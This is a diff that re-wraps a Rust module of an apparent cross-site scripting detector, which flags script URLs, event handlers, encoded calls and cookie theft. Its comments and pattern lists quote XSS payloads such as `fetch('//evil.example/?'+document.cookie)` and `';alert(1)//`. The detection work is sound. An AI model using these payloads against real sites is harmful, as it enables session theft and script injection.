@@ -1,7 +1,8 @@
 //! Script outside of tags: URLs that are code, ways out of a string or an attribute, calls that hide or steal.
 
 use super::super::bytes::{
-    REACH, eat_any, ends, first, head, is_digit, is_letter, is_one, is_quote, is_space, is_word, last, near, skip, spaces, split, split_near, starts, tail, word, words,
+    REACH, eat_any, ends, first, head, is_digit, is_letter, is_one, is_quote, is_space, is_word, last, near, skip,
+    spaces, split, split_near, starts, tail, word, words,
 };
 
 /// How much white space may stand between two letters of a URL's scheme.
@@ -20,14 +21,22 @@ pub(super) fn is_call(rest: &[u8]) -> bool {
     let direct = behind;
     let behind = spaces(behind);
     match name {
-        b"eval" | b"fetch" | b"import" => matches!(first(direct), b'(' | b'`') || starts(direct, &[")("]) || starts(direct, &["?.("]),
+        b"eval" | b"fetch" | b"import" => {
+            matches!(first(direct), b'(' | b'`') || starts(direct, &[")("]) || starts(direct, &["?.("])
+        }
         b"alert" | b"confirm" | b"prompt" | b"atob" | b"settimeout" | b"setinterval" | b"print" => {
             matches!(first(behind), b'(' | b'`') || starts(behind, &[")("]) || starts(behind, &["?.("])
         }
         b"document" | b"window" | b"self" | b"top" | b"parent" | b"globalthis" => {
-            first(direct) == b'[' && direct.get(1).is_some_and(|byte| is_quote(*byte) || *byte == b'/') || is_one(name, &["window", "document"]) && first(behind) == b'.' && is_word(first(behind.get(1..).unwrap_or_default()))
+            first(direct) == b'[' && direct.get(1).is_some_and(|byte| is_quote(*byte) || *byte == b'/')
+                || is_one(name, &["window", "document"])
+                    && first(behind) == b'.'
+                    && is_word(first(behind.get(1..).unwrap_or_default()))
         }
-        b"location" => first(behind) == b'=' && !starts(behind, &["=="]) || starts(behind, &[".href", ".hash", ".replace", ".assign", ".search"]),
+        b"location" => {
+            first(behind) == b'=' && !starts(behind, &["=="])
+                || starts(behind, &[".href", ".hash", ".replace", ".assign", ".search"])
+        }
         b"" => starts(rest, &["$.get"]),
         _ => false,
     }
@@ -36,7 +45,9 @@ pub(super) fn is_call(rest: &[u8]) -> bool {
 fn at_word(before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
     match first(name) {
         b'o' if name.len() > 4 && name.starts_with(b"on") => handler(before, name, after),
-        b'a' | b'c' | b'p' | b'e' | b's' | b'f' | b'd' | b'i' | b'l' | b'w' | b't' | b'g' | b'u' => named(before, name, after),
+        b'a' | b'c' | b'p' | b'e' | b's' | b'f' | b'd' | b'i' | b'l' | b'w' | b't' | b'g' | b'u' => {
+            named(before, name, after)
+        }
         _ => None,
     }
 }
@@ -50,8 +61,11 @@ fn named(before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
             let handler = target.len() > 4 && target.starts_with(b"on");
             (handler || is_one(target, &["href", "xlink:href"])).then_some("cross_site_scripting.animated_attribute")
         }
-        b"alert" | b"confirm" | b"prompt" | b"eval" | b"settimeout" | b"execscript" | b"function" | b"writeln" | b"write" => call(before, name, called),
-        b"top" | b"self" | b"window" | b"parent" | b"frames" | b"globalthis" | b"this" | b"document" => object(name, called),
+        b"alert" | b"confirm" | b"prompt" | b"eval" | b"settimeout" | b"execscript" | b"function" | b"writeln"
+        | b"write" => call(before, name, called),
+        b"top" | b"self" | b"window" | b"parent" | b"frames" | b"globalthis" | b"this" | b"document" => {
+            object(name, called)
+        }
         b"constructor" => constructor(before, after),
         b"cookie" | b"domain" => theft(before.strip_suffix(b"document.")?),
         b"localstorage" | b"sessionstorage" => theft(before),
@@ -59,7 +73,8 @@ fn named(before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
         b"data" => document_url(after),
         b"import" => {
             let url = spaces(called.strip_prefix(b"(")?);
-            (is_quote(first(url)) && starts(url.get(1..)?, &["//", "data:"])).then_some("cross_site_scripting.hidden_call")
+            (is_quote(first(url)) && starts(url.get(1..)?, &["//", "data:"]))
+                .then_some("cross_site_scripting.hidden_call")
         }
         b"find" | b"foreach" | b"some" | b"every" | b"filter" => {
             let (function, behind) = word(spaces(called.strip_prefix(b"(")?));
@@ -70,7 +85,8 @@ fn named(before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
             let address = skip(spaces(called.strip_prefix(b"(")?), is_quote);
             let property = before.trim_ascii_end();
             let binding = ends(property, &["-moz-binding:", "behavior:", "-moz-binding :"]);
-            (binding && (starts(address, &["http", "//", "#default"]) || ends(property, &["binding:"]))).then_some("cross_site_scripting.style_code")
+            (binding && (starts(address, &["http", "//", "#default"]) || ends(property, &["binding:"])))
+                .then_some("cross_site_scripting.style_code")
         }
         _ => None,
     }
@@ -84,9 +100,52 @@ fn handler(before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
     }
     let value = spaces(spaces(after).strip_prefix(b"=")?);
     const EVENTS: &[&str] = &[
-        "error", "load", "focus", "blur", "click", "dblclick", "mouse", "pointer", "key", "toggle", "input", "change", "submit", "select", "copy", "cut",
-        "paste", "drag", "drop", "animation", "transition", "wheel", "scroll", "resize", "begin", "start", "end", "repeat", "finish", "bounce", "touch", "page", "hash",
-        "before", "after", "message", "popstate", "search", "show", "play", "can", "auxclick", "contextmenu", "ready", "xxx", "unhandled",
+        "error",
+        "load",
+        "focus",
+        "blur",
+        "click",
+        "dblclick",
+        "mouse",
+        "pointer",
+        "key",
+        "toggle",
+        "input",
+        "change",
+        "submit",
+        "select",
+        "copy",
+        "cut",
+        "paste",
+        "drag",
+        "drop",
+        "animation",
+        "transition",
+        "wheel",
+        "scroll",
+        "resize",
+        "begin",
+        "start",
+        "end",
+        "repeat",
+        "finish",
+        "bounce",
+        "touch",
+        "page",
+        "hash",
+        "before",
+        "after",
+        "message",
+        "popstate",
+        "search",
+        "show",
+        "play",
+        "can",
+        "auxclick",
+        "contextmenu",
+        "ready",
+        "xxx",
+        "unhandled",
     ];
     if !starts(name.get(2..)?, EVENTS) {
         return None;
@@ -101,7 +160,10 @@ fn handler(before: &[u8], name: &[u8], after: &[u8]) -> Option<&'static str> {
 fn call(before: &[u8], name: &[u8], called: &[u8]) -> Option<&'static str> {
     let shows = is_one(name, &["alert", "confirm", "prompt"]);
     let hidden = Some("cross_site_scripting.hidden_call");
-    if shows && ends(before, &["("]) && starts(called, &[")("]) || shows && ends(before, &["onerror="]) || shows && starts(called, &["?.("]) {
+    if shows && ends(before, &["("]) && starts(called, &[")("])
+        || shows && ends(before, &["onerror="])
+        || shows && starts(called, &["?.("])
+    {
         return hidden;
     }
     if shows && ends(before, &[".apply(", ".call(", ".map(", ".bind("]) {
@@ -110,7 +172,10 @@ fn call(before: &[u8], name: &[u8], called: &[u8]) -> Option<&'static str> {
     if name == b"eval" && ends(before, &["(0,", "(1,"]) {
         return hidden;
     }
-    if name == b"function" && starts(called, &["('", "(\"", "(`"]) && near(called, &["alert(", "eval(", "document.", "prompt("]) {
+    if name == b"function"
+        && starts(called, &["('", "(\"", "(`"])
+        && near(called, &["alert(", "eval(", "document.", "prompt("])
+    {
         return hidden;
     }
     if shows && first(called) == b'`' {
@@ -143,33 +208,50 @@ fn object(name: &[u8], called: &[u8]) -> Option<&'static str> {
         b'\'' | b'"' | b'`' => {
             let (member, behind) = word(index.get(1..)?);
             let behind = skip(behind, is_quote);
-            is_one(member, &functions) || starts(spaces(behind), &["+"]) && is_quote(first(spaces(spaces(behind).get(1..)?))) || starts(index.get(1..)?, &["\\x", "\\u"])
+            is_one(member, &functions)
+                || starts(spaces(behind), &["+"]) && is_quote(first(spaces(spaces(behind).get(1..)?)))
+                || starts(index.get(1..)?, &["\\x", "\\u"])
         }
         b'/' => split_near(index, b"/.source").is_some(),
         b'0'..=b'9' => starts(skip(index, is_digit), &["..tostring", ".tostring"]),
-        _ => starts(index, &["atob"]) || is_word(first(index)) && starts(word(index).1, &["+"]) && starts(skip(index, |byte| byte != b']'), &["]("]) && name == b"top",
+        _ => {
+            starts(index, &["atob"])
+                || is_word(first(index))
+                    && starts(word(index).1, &["+"])
+                    && starts(skip(index, |byte| byte != b']'), &["]("])
+                    && name == b"top"
+        }
     };
     found.then_some("cross_site_scripting.hidden_call")
 }
 
 /// Code by way of a constructor: `constructor.constructor('alert(1)')()`.
 fn constructor(before: &[u8], after: &[u8]) -> Option<&'static str> {
-    let reached = matches!(last(before.trim_ascii_end()), b'.' | b'[' | b'\'' | b'"' | b'`') || ends(before.trim_ascii_end(), &["{{"]);
+    let reached = matches!(last(before.trim_ascii_end()), b'.' | b'[' | b'\'' | b'"' | b'`')
+        || ends(before.trim_ascii_end(), &["{{"]);
     let rest = skip(after, |byte| is_quote(byte) || byte == b']' || is_space(byte));
     let argument = rest.strip_prefix(b"(").map(spaces);
     let template = after.strip_prefix(b"`").filter(|code| matches!(first(word(code).1), b'\\' | b'(')).is_some();
-    let again = skip(rest, |byte| matches!(byte, b'.' | b'[') || is_quote(byte) || is_space(byte)).starts_with(b"constructor");
+    let again =
+        skip(rest, |byte| matches!(byte, b'.' | b'[') || is_quote(byte) || is_space(byte)).starts_with(b"constructor");
     let template = template || near(tail(before, 96), &["{{"]);
-    (reached && (argument.is_some_and(|argument| is_quote(first(argument))) || template || again && rest.len() < after.len().saturating_add(1)))
-        .then_some("cross_site_scripting.constructor_call")
+    (reached
+        && (argument.is_some_and(|argument| is_quote(first(argument)))
+            || template
+            || again && rest.len() < after.len().saturating_add(1)))
+    .then_some("cross_site_scripting.constructor_call")
 }
 
 /// What scripts are stolen for: `fetch('//evil.example/?'+document.cookie)`.
 fn theft(before: &[u8]) -> Option<&'static str> {
     let near_end = tail(before, 48);
     let inner = near_end.trim_ascii_end();
-    let wrapped = inner.strip_suffix(b"(").map_or(inner, |call| call.iter().rposition(|byte| !is_word(*byte)).map_or(b"".as_slice(), |at| call.get(..=at).unwrap_or_default()));
-    let shown = ["alert(", "confirm(", "prompt(", "eval(", "alert`", "write("].iter().any(|call| near_end.ends_with(call.as_bytes()));
+    let wrapped = inner.strip_suffix(b"(").map_or(inner, |call| {
+        call.iter().rposition(|byte| !is_word(*byte)).map_or(b"".as_slice(), |at| call.get(..=at).unwrap_or_default())
+    });
+    let shown = ["alert(", "confirm(", "prompt(", "eval(", "alert`", "write("]
+        .iter()
+        .any(|call| near_end.ends_with(call.as_bytes()));
     let sent = |end: &[u8]| {
         let end = end.trim_ascii_end();
         if let Some(quoted) = end.strip_suffix(b"+") {
@@ -187,21 +269,32 @@ fn theft(before: &[u8]) -> Option<&'static str> {
 fn style(before: &[u8], after: &[u8]) -> Option<&'static str> {
     let opened = skip(after, |byte| byte == b'\\' || is_space(byte));
     let property = before.iter().rev().take(8).find(|byte| !is_space(**byte) && **byte != b'\\' && **byte < 0x80);
-    (first(opened) == b'(' && (property == Some(&b':') && !ends(before, &["::"]) || ends(before, &["*/"])) && opened.len().saturating_add(1) >= after.len())
-        .then_some("cross_site_scripting.style_code")
+    (first(opened) == b'('
+        && (property == Some(&b':') && !ends(before, &["::"]) || ends(before, &["*/"]))
+        && opened.len().saturating_add(1) >= after.len())
+    .then_some("cross_site_scripting.style_code")
 }
 
 /// A URL that is a document: `data:text/html,<script>`.
 fn document_url(after: &[u8]) -> Option<&'static str> {
     let kind = spaces(after).strip_prefix(b":")?;
     let kind = spaces(kind);
-    let documents = ["text/html", "text/xml", "text/javascript", "application/xhtml+xml", "application/javascript", "application/xml", "application/x-dom-event-stream"];
+    let documents = [
+        "text/html",
+        "text/xml",
+        "text/javascript",
+        "application/xhtml+xml",
+        "application/javascript",
+        "application/xml",
+        "application/x-dom-event-stream",
+    ];
     if let Some(behind) = eat_any(kind, &documents) {
         return matches!(first(spaces(behind)), b',' | b';').then_some("cross_site_scripting.document_url");
     }
     let image = kind.strip_prefix(b"image/svg+xml")?;
     let (_, content) = split_near(image, b",")?;
-    (content.starts_with(b"<svg") && near(content, &["<script", "onload", "</svg>#"])).then_some("cross_site_scripting.document_url")
+    (content.starts_with(b"<svg") && near(content, &["<script", "onload", "</svg>#"]))
+        .then_some("cross_site_scripting.document_url")
 }
 
 /// Schemes that are code, with white space and slashes between their letters: `java\nscript:alert(1)`.
@@ -210,7 +303,9 @@ fn schemes(text: &[u8]) -> Option<&'static str> {
         .filter(|(before, _)| !is_letter(last(before)) || last(before) == b'n')
         .find_map(|(before, rest)| {
             if first(rest) == b'e' {
-                return spaced(rest, b"expression").filter(|behind| starts(skip(behind, |byte| byte == b'\\' || is_space(byte)), &["("])).and_then(|behind| style(before, behind));
+                return spaced(rest, b"expression")
+                    .filter(|behind| starts(skip(behind, |byte| byte == b'\\' || is_space(byte)), &["("]))
+                    .and_then(|behind| style(before, behind));
             }
             is_script_url(rest).then_some("cross_site_scripting.script_url")
         })
@@ -223,7 +318,9 @@ pub(super) fn is_script_url(rest: &[u8]) -> bool {
         let scheme = rest.get(..rest.len().saturating_sub(code.len())).unwrap_or_default();
         return scheme.iter().any(|byte| *byte < b' ') || is_code(code);
     }
-    if let Some(code) = spaced(rest, b"vbscript:").or_else(|| spaced(rest, b"livescript:")).or_else(|| spaced(rest, b"mocha:")) {
+    if let Some(code) =
+        spaced(rest, b"vbscript:").or_else(|| spaced(rest, b"livescript:")).or_else(|| spaced(rest, b"mocha:"))
+    {
         let (name, behind) = word(spaces(code));
         return !name.is_empty() && matches!(first(behind), b'(' | b' ') || first(code) == b'[';
     }
@@ -243,7 +340,8 @@ fn is_code(code: &[u8]) -> bool {
         return true;
     }
     let (token, _) = split(head(code, REACH), |byte| !is_space(byte));
-    token.get(1..).unwrap_or_default().iter().any(|byte| matches!(byte, b'(' | b'`' | b'=' | b'[' | b'<')) || token.starts_with(b"//") && token.len() > 2
+    token.get(1..).unwrap_or_default().iter().any(|byte| matches!(byte, b'(' | b'`' | b'=' | b'[' | b'<'))
+        || token.starts_with(b"//") && token.len() > 2
 }
 
 /// What follows `letters`, between which there may be white space, controls, backslashes and comments.
@@ -266,7 +364,34 @@ fn spaced<'a>(rest: &'a [u8], letters: &[u8]) -> Option<&'a [u8]> {
 /// Out of a script's string, by the first quote of its kind: `';alert(1)//`.
 fn string_escape(text: &[u8]) -> Option<&'static str> {
     let runs = |rest: &[u8]| {
-        let code = skip(rest, |byte| is_space(byte) || matches!(byte, b'-' | b';' | b',' | b'+' | b'*' | b'/' | b'%' | b'^' | b'|' | b'&' | b')' | b'}' | b']' | b'<' | b'>' | b'=' | b'?' | b':' | b'~' | b'!' | b'\\' | b'{') || is_quote(byte));
+        let code = skip(rest, |byte| {
+            is_space(byte)
+                || matches!(
+                    byte,
+                    b'-' | b';'
+                        | b','
+                        | b'+'
+                        | b'*'
+                        | b'/'
+                        | b'%'
+                        | b'^'
+                        | b'|'
+                        | b'&'
+                        | b')'
+                        | b'}'
+                        | b']'
+                        | b'<'
+                        | b'>'
+                        | b'='
+                        | b'?'
+                        | b':'
+                        | b'~'
+                        | b'!'
+                        | b'\\'
+                        | b'{'
+                )
+                || is_quote(byte)
+        });
         let closed = spaces(rest).len() > code.len();
         closed && (is_call(code) || code.starts_with(b"function ") && near(code, &["alert(", "eval("]))
     };
@@ -281,12 +406,20 @@ fn string_escape(text: &[u8]) -> Option<&'static str> {
 
 /// Script without letters.
 fn symbols(text: &[u8]) -> Option<&'static str> {
-    text.windows(8).any(|window| window == b"(![]+[])" || window == b"[][[]]+[" || window == b"([][[]]+").then_some("cross_site_scripting.hidden_call")
+    text.windows(8)
+        .any(|window| window == b"(![]+[])" || window == b"[][[]]+[" || window == b"([][[]]+")
+        .then_some("cross_site_scripting.hidden_call")
 }
 
 /// A call that was readable only after its encodings were undone: `al\u0065rt(1)`.
 fn hidden_by_encoding(text: &[u8], written: &[u8]) -> Option<&'static str> {
-    let calls = |text: &[u8]| words(text).filter(|(_, name, after)| is_one(name, &["alert", "confirm", "prompt", "eval"]) && matches!(first(after), b'(' | b'`')).count();
+    let calls = |text: &[u8]| {
+        words(text)
+            .filter(|(_, name, after)| {
+                is_one(name, &["alert", "confirm", "prompt", "eval"]) && matches!(first(after), b'(' | b'`')
+            })
+            .count()
+    };
     let (plain, hidden) = (calls(text), calls(written));
     (plain > hidden).then_some("cross_site_scripting.hidden_call")
 }
